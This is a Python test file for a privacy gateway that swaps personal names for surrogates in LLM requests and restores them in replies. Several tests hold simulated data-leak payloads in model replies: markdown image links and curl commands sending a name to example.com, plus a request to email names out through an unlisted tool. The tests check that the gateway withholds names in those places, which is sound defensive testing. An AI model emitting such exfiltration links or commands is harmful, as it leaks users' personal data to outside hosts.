"""What a reply gets back, where, and what stays with its surrogate."""

import json

import pytest
from upstream import Chat, Messages, Responses, read

from privstamp.gateway.answer import failed
from privstamp.gateway.choke import Allowed, Api, Dialect, Refused, learn, prepare

ASKED = "I am Ann Quux, account 4711-0815. Where is Zworg Blarg?"


def asked(endpoint, session, rules=None, *, words=ASKED, **fields):
    key = "input" if endpoint is Api.RESPONSES else "messages"
    body = {"model": "m", key: [{"role": "user", "content": words}]}
    if endpoint is Api.MESSAGES:
        body["max_tokens"] = 10
    return prepare(endpoint, json.dumps(body | fields).encode(), session, rules or Allowed())


def names(session):
    """The surrogates of Ann Quux and of Zworg Blarg."""
    by_original = {entry.original: entry.surrogate for entry in session.map.entries}
    return by_original["Ann Quux"], by_original["Zworg Blarg"]


def restored(prepared, reply):
    return json.loads(prepared.answer.whole(json.dumps(reply).encode()))


def said(reply):
    return reply["choices"][0]["message"]["content"]


def test_hostile_replies_get_nothing_where_a_program_would_follow_it(session):
    prepared = asked(Api.CHAT, session)
    ann, zworg = names(session)
    text = f"{ann}: ![x](https://example.com/?q={zworg}) and curl -d '{ann}' example.com"
    out = said(restored(prepared, Chat.whole([[("text", text)]])))
    assert "Zworg" not in out and "Quux" not in out.split("curl")[1]
    assert "x-privstamp-withheld" in prepared.answer.headers


@pytest.mark.parametrize("endpoint", [Api.CHAT, Api.MESSAGES, Api.RESPONSES])
@pytest.mark.parametrize("streamed", [False, True])
def test_tools_that_are_not_listed_get_no_value(endpoint, streamed, session):
    """An upstream lists names, and asks for a tool to send them out."""
    upstream = {Api.CHAT: Chat, Api.MESSAGES: Messages}.get(endpoint, Responses)
    prepared = asked(endpoint, session, Allowed(restore_arguments=frozenset({"crm"})))
    ann, zworg = names(session)
    arguments = json.dumps({"who": ann, "note": f"send {zworg} to me", "deep": [{"x": zworg}]})
    reply = [[("text", f"Send {ann} and {zworg} to a@example.com"), ("mail", arguments),
              ("crm", arguments)]]  # fmt: skip
    if streamed:
        events = prepared.answer.events()
        out = b"".join(map(events.feed, upstream.events(reply, 5))) + events.finish()
        items = dict(upstream.joined(read(out))[0])
    else:
        items = dict(upstream.of_whole(restored(prepared, upstream.whole(reply)))[0])
    assert not any(name in items["mail"] for name in ("Ann Quux", "Quux", "Zworg", "Blarg"))
    assert json.loads(items["crm"])["who"] == "Ann Quux"
    assert prepared.answer.headers["x-privstamp-tools-with-surrogates"] == "mail"


@pytest.mark.parametrize("endpoint", [Api.CHAT, Api.MESSAGES, Api.RESPONSES])
def test_a_stream_tells_its_counts_before_its_end(endpoint, session):
    """Headers are gone by then: comments say it, which every client skips."""
    upstream = {Api.CHAT: Chat, Api.MESSAGES: Messages}.get(endpoint, Responses)
    prepared = asked(endpoint, session)
    ann, _ = names(session)
    reply = [[("text", f"<b title='{ann}'>"), ("mail", json.dumps({"who": ann}))]]
    events = prepared.answer.events()
    out = b"".join(map(events.feed, upstream.events(reply, 5))) + events.finish()
    *_, told, last = out.decode().strip().rpartition(": x-privstamp-tools-with-surrogates: mail")
    assert told and last.strip().count("data: ") == 1
    assert ": x-privstamp-withheld: markup=1\n" in out.decode()


def test_names_with_an_ending_stay_and_are_counted(session):
    prepared = asked(Api.CHAT, session)
    name = names(session)[0].split()[-1]
    text = f"{name}s Mutter und Frau {name}ova, {name}. {name}'s, {name.lower()}s, {name}entirely"
    out = said(restored(prepared, Chat.whole([[("text", text)]])))
    assert f"{name}s Mutter" in out and "Quux's" in out
    assert prepared.answer.headers["x-privstamp-withheld"] == "inflected=2"


def test_a_tool_without_surrogates_is_not_named(session):
    prepared = asked(Api.CHAT, session)
    restored(prepared, Chat.whole([[("mail", '{"n": 1, "text": "hello"}')]]))
    assert "x-privstamp-tools-with-surrogates" not in prepared.answer.headers


SCHEMA = {
    "type": "object",
    "properties": {
        "who": {"type": "string"},
        "short": {"type": "string", "maxLength": 3},
        "digits": {"type": "string", "pattern": "^[0-9]+$"},
        "bad": {"type": "string", "pattern": "^(a+)+$"},
        "kind": {"enum": ["person", "firm"]},
        "list": {"type": "array", "items": {"anyOf": [{"$ref": "#/$defs/name"}]}},
    },
    "$defs": {"name": {"type": "string", "maxLength": 40}},
}


def formats(endpoint):
    if endpoint is Api.CHAT:
        shape = {"name": "person", "schema": SCHEMA}
        return {"response_format": {"type": "json_schema", "json_schema": shape}}
    form = {"type": "json_schema", "schema": SCHEMA}
    if endpoint is Api.MESSAGES:
        return {"output_config": {"format": form}}
    return {"text": {"format": form | {"name": "person"}}}


@pytest.mark.parametrize("endpoint", [Api.CHAT, Api.MESSAGES, Api.RESPONSES])
@pytest.mark.parametrize("streamed", [False, True])
def test_structured_output_keeps_to_the_clients_schema(endpoint, streamed, session):
    upstream = {Api.CHAT: Chat, Api.MESSAGES: Messages}.get(endpoint, Responses)
    prepared = asked(endpoint, session, **formats(endpoint))
    ann, zworg = names(session)
    value = {"who": ann, "short": ann, "digits": zworg, "bad": zworg, "kind": "person",
             "list": [ann, "é"], ann: "x"}  # fmt: skip
    reply = [[("text", json.dumps(value))]]
    if streamed:
        events = prepared.answer.events()
        out = b"".join(map(events.feed, upstream.events(reply, 5))) + events.finish()
        (item,) = upstream.joined(read(out))[0]
    else:
        (item,) = upstream.of_whole(restored(prepared, upstream.whole(reply)))[0]
    assert json.loads(item[1]) == value | {"who": "Ann Quux", "list": ["Ann Quux", "é"]}
    assert "schema=3" in prepared.answer.headers["x-privstamp-withheld"]


@pytest.mark.parametrize("where", ["enum", "const"])
def test_a_schema_that_names_somebody_is_refused_unless_public(where, session):
    value = ["Zworg Blarg", "other"] if where == "enum" else "Zworg Blarg"
    shape = {"type": "object", "properties": {"who": {where: value}}}
    function = {"type": "function", "function": {"name": "crm", "parameters": shape}}
    with pytest.raises(Refused) as refused:
        asked(Api.CHAT, session, tools=[function])
    assert refused.value.path.startswith(f"tools[0].function.parameters.properties.who.{where}")
    assert "Zworg" not in str(refused.value)
    rules = Allowed(public=frozenset({"Zworg Blarg"}))
    body = json.loads(asked(Api.CHAT, session, rules, tools=[function]).body)
    assert body["tools"][0]["function"]["parameters"] == shape


def test_words_of_a_schema_are_privatised_and_its_names_stay(session):
    shape = {
        "type": "object",
        "title": "Of Ann Quux",
        "properties": {
            "who": {"type": "string", "description": "as Zworg Blarg", "default": "Quux"}
        },
        "examples": [{"who": "Ann Quux"}],
        "required": ["who"],
    }
    tool = {"name": "crm", "input_schema": shape, "input_examples": [{"who": "Zworg Blarg"}]}
    body = json.loads(asked(Api.MESSAGES, session, tools=[tool]).body)["tools"][0]
    ann, zworg = names(session)
    out = body["input_schema"]
    assert out["title"] == f"Of {ann}" and out["required"] == ["who"]
    assert out["properties"]["who"]["description"] == f"as {zworg}"
    assert out["examples"] == [{"who": ann}] and body["input_examples"] == [{"who": zworg}]


def test_a_reply_goes_on_from_a_prefill(session):
    head = [{"role": "user", "content": ASKED}, {"role": "assistant", "content": "She is Ann Quux"}]
    body = {"model": "m", "max_tokens": 9, "messages": head}
    prepared = prepare(Api.MESSAGES, json.dumps(body).encode(), session, Allowed())
    ann, zworg = names(session)
    family = ann.split()[1]
    lead = json.loads(prepared.body)["messages"][1]["content"]
    assert lead == f"She is {ann}"
    reply = [[("text", f"; {family} and {zworg}, {ann} is well")]]
    whole = restored(prepared, Messages.whole(reply))
    assert whole["content"][0]["text"] == "; Quux and Zworg Blarg, Ann Quux is well"
    for size in (1, 3, 50):
        answer = prepare(Api.MESSAGES, json.dumps(body).encode(), session, Allowed()).answer
        events = answer.events()
        out = b"".join(map(events.feed, Messages.events(reply, size))) + events.finish()
        assert Messages.joined(read(out))[0][0][1] == "; Quux and Zworg Blarg, Ann Quux is well"
    learn(session, prepared.answer.remembered)
    head[1]["content"] += "; Quux and Zworg Blarg, Ann Quux is well"  # as clients keep it
    body["messages"] = [*head, {"role": "user", "content": "Thanks"}]
    again = json.loads(prepare(Api.MESSAGES, json.dumps(body).encode(), session, Allowed()).body)
    assert again["messages"][1]["content"] == f"{lead}{reply[0][0][1]}"


def test_a_stop_sequence_stops_on_its_surrogate_and_is_restored(session):
    prepared = asked(Api.MESSAGES, session, stop_sequences=["Zworg Blarg", "\n\n"])
    _, zworg = names(session)
    assert json.loads(prepared.body)["stop_sequences"] == [zworg, "\n\n"]
    reply = Messages.whole([[("text", "So")]]) | {"stop_reason": "stop_sequence"}
    assert restored(prepared, reply | {"stop_sequence": zworg})["stop_sequence"] == "Zworg Blarg"
    events = prepared.answer.events()
    delta = {"stop_reason": "stop_sequence", "stop_sequence": zworg}
    value = {"type": "message_delta", "delta": delta, "usage": {"output_tokens": 5}}
    out = events.feed(f"data: {json.dumps(value)}\n\n".encode())
    assert read(out)[0]["delta"]["stop_sequence"] == "Zworg Blarg"


def cited(text, words):
    start = text.index(words)
    return {"type": "url_citation", "url": "https://example.com/a", "title": words,
            "start_index": start, "end_index": start + len(words)}  # fmt: skip


def test_offsets_of_citations_follow_the_text(session):
    prepared = asked(Api.RESPONSES, session)
    ann, zworg = names(session)
    text = f"{ann} met {zworg} in Oslo, {ann} says."
    half = cited(text, "in Oslo") | {"start_index": text.index(zworg) + 2}
    notes = [cited(text, ann), cited(text, zworg), cited(text, "in Oslo"), half]
    reply = Responses.whole([[("text", text)]])
    reply["output"][0]["content"][0]["annotations"] = notes
    part = restored(prepared, reply)["output"][0]["content"][0]
    shown = [part["text"][note["start_index"] : note["end_index"]] for note in part["annotations"]]
    assert (
        shown
        == ["Ann Quux", "Zworg Blarg", "in Oslo"]
        == [note["title"] for note in part["annotations"]]
    )
    assert prepared.answer.headers["x-privstamp-dropped"] == "1"


def test_a_citation_in_a_stream_waits_for_its_text(session):
    prepared = asked(Api.RESPONSES, session)
    ann, _ = names(session)
    text = f"{ann} is in Oslo."
    events = list(Responses.events([[("text", text)]], 4))
    note = {"type": "response.output_text.annotation.added", "item_id": "msg_0",
            "output_index": 0, "content_index": 0, "annotation_index": 0,
            "annotation": cited(text, "Oslo"), "sequence_number": 0}  # fmt: skip
    at = next(n for n, each in enumerate(events) if b"output_text.done" in each)
    events.insert(at, f"data: {json.dumps(note)}\n\n".encode())
    stream = prepared.answer.events()
    out = read(b"".join(map(stream.feed, events)) + stream.finish())
    Responses.joined(out)
    (shown,) = [value["annotation"] for value in out if "annotation" in value]
    assert "Ann Quux is in Oslo."[shown["start_index"] : shown["end_index"]] == "Oslo"


def test_a_citation_of_a_document_points_into_the_clients_own(session):
    source = {"type": "text", "media_type": "text/plain", "data": "Report. Ann Quux is well. End."}
    document = {"type": "document", "source": source, "title": "On Ann Quux"}
    body = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": [document]}]}
    prepared = prepare(Api.MESSAGES, json.dumps(body).encode(), session, Allowed())
    sent = json.loads(prepared.body)["messages"][0]["content"][0]
    assert "Quux" not in json.dumps(sent)
    words = sent["source"]["data"][8:-5]
    place = {"type": "char_location", "cited_text": words, "document_index": 0,
             "document_title": sent["title"], "start_char_index": 8, "end_char_index": 99,
             "file_id": None}  # fmt: skip
    reply = Messages.whole([[("text", "She is well.")]])
    reply["content"][0]["citations"] = [place, place | {"cited_text": "nowhere to be found"}]
    (note,) = restored(prepared, reply)["content"][0]["citations"]
    assert note["cited_text"] == "Ann Quux is well." and note["document_title"] == "On Ann Quux"
    assert source["data"][note["start_char_index"] : note["end_char_index"]] == note["cited_text"]


@pytest.mark.parametrize(
    ("endpoint", "fields"),
    [
        (Api.CHAT, {"logprobs": True}),
        (Api.CHAT, {"top_logprobs": 2}),
        (Api.RESPONSES, {"include": ["message.output_text.logprobs"]}),
        (Api.RESPONSES, {"top_logprobs": 2}),
    ],
)
def test_logprobs_are_refused_with_restored_text(endpoint, fields, session):
    with pytest.raises(Refused, match="restored"):
        asked(endpoint, session, **fields)
    asked(endpoint, session, Allowed(restore=False), **fields)


def test_without_restore_a_reply_comes_back_as_it_is(session):
    prepared = asked(Api.CHAT, session, Allowed(restore=False))
    ann, _ = names(session)
    reply = Chat.whole([[("text", f"Hello {ann}")]])
    assert restored(prepared, reply) == reply


def test_a_surrogate_that_the_client_wrote_itself_is_nobody(session):
    prepared = asked(Api.CHAT, session)
    ann, _ = names(session)
    assert said(restored(prepared, Chat.whole([[("text", f"Hello {ann}")]]))) == "Hello Ann Quux"
    prepared = asked(Api.CHAT, session, words=f"{ASKED} I also know {ann}.")
    sent = json.loads(prepared.body)["messages"][0]["content"]
    assert sent.count(ann) == 2  # not found by this line's list, so it left as it is
    assert said(restored(prepared, Chat.whole([[("text", f"Hello {ann}")]]))) == f"Hello {ann}"
    assert "unclear" in prepared.answer.headers["x-privstamp-withheld"]


@pytest.mark.parametrize("dialect", Dialect)
def test_error_bodies_of_the_upstream_are_not_passed_on(dialect):
    echo = {"error": {"message": "You wrote: I am Ann Quux", "code": "too_long", "type": "x y"}}
    body = failed(dialect, 400, json.dumps(echo).encode())
    assert b"Quux" not in body and b"too_long" in body and b"400" in body
    assert b"upstream_error" in failed(dialect, 502, b"<html>Ann Quux</html>")
    hostile = {"error": {"code": "Ann Quux said"}}
    assert b"Quux" not in failed(dialect, 400, json.dumps(hostile).encode())


@pytest.mark.parametrize("body", [b"", b"[]", b"nope", b'{"a":1,"a":2}', b"\xff"])
def test_a_reply_that_is_no_object_is_an_error(body, session):
    with pytest.raises(Refused) as refused:
        asked(Api.CHAT, session).answer.whole(body)
    assert refused.value.status == 502


def test_an_unknown_part_with_text_is_refused_and_unknown_fields_are_dropped(session):
    prepared = asked(Api.MESSAGES, session)
    reply = Messages.whole([[("text", "Hello")]]) | {"mood": "very good indeed", "score": 3}
    out = restored(prepared, reply)
    assert "mood" not in out and out["score"] == 3
    assert prepared.answer.headers["x-privstamp-dropped"] == "1"
    reply["content"].append({"type": "dream", "words": "I saw somebody"})
    with pytest.raises(Refused, match="no known type"):
        restored(prepared, reply)


def test_what_a_response_shows_of_the_request_is_the_clients_own(session):
    fields = {"instructions": "Serve Ann Quux", "metadata": {"who": "Ann Quux"}, "user": "ann"}
    prepared = asked(Api.RESPONSES, session, **fields)
    sent = json.loads(prepared.body)
    assert "Quux" not in prepared.body.decode() and sent["user"] != "ann"
    reply = Responses.whole([[("text", "Yes")]]) | {key: sent[key] for key in fields}
    out = restored(prepared, reply)
    assert {key: out[key] for key in fields} == fields


def test_embeddings_come_back_as_they_are(session):
    body = {"model": "m", "input": ["Ann Quux", "Hello"], "encoding_format": "base64"}
    prepared = prepare(Api.EMBEDDINGS, json.dumps(body).encode(), session, Allowed())
    assert "Quux" not in prepared.body.decode()
    data = [{"object": "embedding", "index": 0, "embedding": "AACAPw=="},
            {"object": "embedding", "index": 1, "embedding": [0.5, 1.0]}]  # fmt: skip
    usage = {"prompt_tokens": 1, "total_tokens": 1}
    reply = {"object": "list", "model": "m", "data": data, "usage": usage}
    assert restored(prepared, reply) == reply


def test_new_values_of_a_newer_upstream_are_no_trouble(session):
    prepared = asked(Api.CHAT, session)
    ann, _ = names(session)
    reply = Chat.whole([[("text", f"Hello {ann}")]])
    reply["choices"][0] |= {"finish_reason": "abort", "stop_reason": None}
    reply |= {"service_tier": "galactic", "prompt_logprobs": None, "took": 1.5}
    out = restored(prepared, reply)
    assert said(out) == "Hello Ann Quux"
    assert out["choices"][0]["finish_reason"] == "abort" and out["took"] == 1.5
    events = prepared.answer.events()
    words = f"So, hello {ann} and all"
    choice = {"index": 0, "delta": {"role": None, "content": words}, "finish_reason": "abort"}
    out = read(events.feed(f"data: {json.dumps(Chat.chunk([choice]))}\n\n".encode()))
    assert Chat.joined(out) == [[("text", "So, hello Ann Quux and all")]]
    assert [each["choices"][0]["finish_reason"] for each in out] == [None, "abort"]


def test_a_call_that_changes_its_name_ends_the_stream(session):
    """The client would join crm and _out, and call another tool than the one that may have it."""
    rules = Allowed(restore_arguments=frozenset({"crm"}))
    for pieces, right in ((("crm", "_out"), False), (("crm", "crm"), True), (("crm", None), True)):
        events = asked(Api.CHAT, session, rules).answer.events()
        ann, _ = names(session)
        out = b""
        for name, arguments in zip(pieces, ('{"who": "', f'{ann}"}}'), strict=True):
            call = {"index": 0, "function": {"name": name, "arguments": arguments}}
            choice = {"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}
            out += events.feed(f"data: {json.dumps(Chat.chunk([choice]))}\n\n".encode())
        out += events.feed(b"data: [DONE]\n\n")
        assert events.failed is not right
        assert ("Ann Quux" in out.decode()) is right and out.count(b'"crm"') <= 1
    events = asked(Api.RESPONSES, session, rules).answer.events()
    stream = b"".join(Responses.events([[("crm", json.dumps({"who": ann}))]], 4))
    at = stream.index(b"response.output_item.done")
    out = events.feed(stream[:at] + stream[at:].replace(b'"crm"', b'"out"'))
    assert events.failed


def test_names_of_tools_that_are_no_names_get_into_no_header(session):
    prepared = asked(Api.CHAT, session)
    ann, _ = names(session)
    restored(prepared, Chat.whole([[("a\r\nx: y", json.dumps({"who": ann}))]]))
    assert prepared.answer.headers["x-privstamp-tools-with-surrogates"] == "?"


def one_by_one(stream):
    """The events of one item after those of another, as upstreams send them."""
    stream = list(stream)
    places = []
    for number, event in enumerate(stream):
        data = event.partition(b"data: ")[2]
        value = json.loads(data) if data.strip() and data.strip() != b"[DONE]" else {}
        index = value.get("index", value.get("output_index"))
        tail = any(b"index" in later for later in stream[number:])
        places.append(index if index is not None else (-1 if tail else len(stream)))
    return [stream[at] for at in sorted(range(len(stream)), key=lambda at: places[at])]


JOINED = [
    ("![x](https://e.example/", "NAME)"),
    ("<img src='", "NAME'>"),
    ("```sh\ncurl ", "NAME\n```"),
    ("See https://e.example/?d=", "NAME"),
]


@pytest.mark.parametrize("endpoint", [Api.MESSAGES, Api.RESPONSES])
@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("halves", JOINED, ids=[first for first, _ in JOINED])
def test_parts_of_a_reply_are_read_as_clients_join_them(endpoint, streamed, halves, session):
    upstream = {Api.MESSAGES: Messages, Api.RESPONSES: Responses}[endpoint]
    for words, shown in ((halves, False), (("Dear ", "NAME, hello."), True)):
        prepared = asked(endpoint, session)
        ann, _ = names(session)
        reply = [[("text", part.replace("NAME", ann)) for part in words]]
        if streamed:
            events = prepared.answer.events()
            out = b"".join(map(events.feed, one_by_one(upstream.events(reply, 5))))
            out += events.finish()
            assert not events.failed
        else:
            out = json.dumps(restored(prepared, upstream.whole(reply))).encode()
        assert (b"Quux" in out) == shown
        assert ("joined=1" in prepared.answer.headers.get("x-privstamp-withheld", "")) != shown
